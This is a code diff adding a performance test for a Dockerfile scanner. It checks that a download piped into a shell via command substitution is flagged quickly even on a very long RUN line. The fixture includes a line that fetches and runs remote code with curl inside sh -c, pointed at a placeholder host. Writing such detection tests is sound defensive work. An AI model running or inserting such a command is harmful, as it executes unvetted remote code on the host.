@@ -365,3 +365,14 @@ describe('scanDockerfile: robustness', () => {
     );
   });
 });
+
+describe('scanDockerfile: scaling', () => {
+  it('finds a download run through command substitution in time linear in the RUN line', () => {
+    // A lazy regex retried from every shell word: 40,000 words on one line took 3.3 s, 80,000 12 s.
+    const words = `RUN ${Array<string>(40_000).fill('sh').join(' ')}`;
+    const started = Date.now();
+    expect(hits(clean(words))).toEqual([]);
+    expect(hits(clean(`${words}; sh -c "$(curl -fsSL https://x.example)"`))).toEqual([['PC-IMG-010', 2]]);
+    expect(Date.now() - started).toBeLessThan(3_000);
+  });
+});
